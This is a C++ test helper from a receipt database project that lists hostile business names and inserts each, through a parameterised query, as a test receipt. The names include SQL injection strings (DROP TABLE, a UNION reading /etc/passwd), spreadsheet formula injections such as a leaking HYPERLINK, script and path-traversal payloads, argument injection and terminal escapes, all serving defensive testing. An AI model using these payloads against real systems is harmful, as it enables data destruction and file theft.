// SPDX-License-Identifier: GPL-3.0-only
#pragma once

#include "db/connection/connection.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QStringList>

namespace oa::tests {

/// Business names as somebody may write them into a receipt who wants them to be taken for something else: SQL,
/// comments, placeholders, mark-up, formulas, paths, escapes of terminals, or another name.
inline QStringList hostileNames()
{
    using namespace Qt::StringLiterals;
    QStringList names = {
        u"'; DROP TABLE documents; --"_s,
        u"\\'; DROP TABLE documents; --"_s,
        u"$q$), $p$1$p$ FROM public.document_values v /*\nCOPY (SELECT 1::int8, now(), $p$PW$p$||$p$NED$p$||($q$*/ --"_s,
        u"' UNION ALL SELECT 1, now(), pg_read_file('/etc/passwd'), '1', '1', '1' --"_s,
        u"$1"_s,
        u"$1 $2 $3"_s,
        u"$$; DROP TABLE documents; $$"_s,
        u"E'\\x27'"_s,
        u"/* open"_s,
        u"*/ closed"_s,
        u"-- end\nof line"_s,
        u"{table}"_s,
        u"{array 1}"_s,
        u"{a,\"b\",NULL}"_s,
        u"\ufeff=1"_s,
        u"NULL"_s,
        u"\\N"_s,
        u"\\."_s,
        u"\\"_s,
        u"\""_s,
        u"'"_s,
        u"a\nb"_s,
        u"a\r\nb"_s,
        u"a\rb"_s,
        u"a\tb"_s,
        u" a"_s,
        u"a "_s,
        u"a"_s,
        u"\\u0000"_s,
        u"\\0"_s,
        u"%00"_s,
        QString(QChar(0x2400)),
        u"%1 %2 %L3 %n"_s,
        u"=1+1"_s,
        u"+1"_s,
        u"-1"_s,
        u"@SUM(1)"_s,
        u"a;=1+1;b"_s,
        u"x\t=1+1"_s,
        u"x, =1+1"_s,
        u"x\n=1+1"_s,
        u"x;\"=1+1\""_s,
        QString(QChar(0xFF1D)) + u"1+1"_s,
        u"=HYPERLINK(\"http://example.org/?\"&A1)"_s,
        u"<b>bold</b>"_s,
        u"<img src='file:///etc/passwd'>"_s,
        u"<script>alert(1)</script>"_s,
        u"]]></text><text>"_s,
        u"&amp; &lt; &#0;"_s,
        u"& && &File"_s,
        u"../../etc/passwd"_s,
        u"--output=/tmp/elsewhere"_s,
        u"\u001b[31mred\u001b]0;title\u0007"_s,
        u"\u009b31m\u0085\u007f"_s,
        u"\u202etxet\u202c"_s,
        u"\u2066a\u2069\u200f\ufeff"_s,
        u"line\u2028paragraph\u2029"_s,
        u"\ufffe\uffff"_s,
        u"Größe 株式会社 😀"_s,
    };
    names.append(u"😀"_s.repeated(256)); // 1024 bytes, and every odd cut is half a character
    return names;
}

/// Adds one receipt of each name: the first of 100, the second of 101, …, all at 2024-05-01T10:00:00Z, each with a
/// score. False when one could not be added.
inline bool addHostileReceipts(db::Connection& connection)
{
    using namespace Qt::StringLiterals;
    int total = 100;
    for (const auto& name : hostileNames()) {
        const QJsonObject payload{
            {u"business_id"_s, name},
            {u"total"_s, QJsonObject{{u"value"_s, total++}, {u"score"_s, 80}, {u"ocr_score"_s, 90}}}};
        const auto added = connection.execute(
            "INSERT INTO documents (ml_response, \"timestamp\") VALUES ($1, '2024-05-01 10:00:00+00')",
            {db::Parameter(QJsonDocument(payload).toJson(QJsonDocument::Compact))});
        if (!added)
            return false;
    }
    return true;
}

} // namespace oa::tests
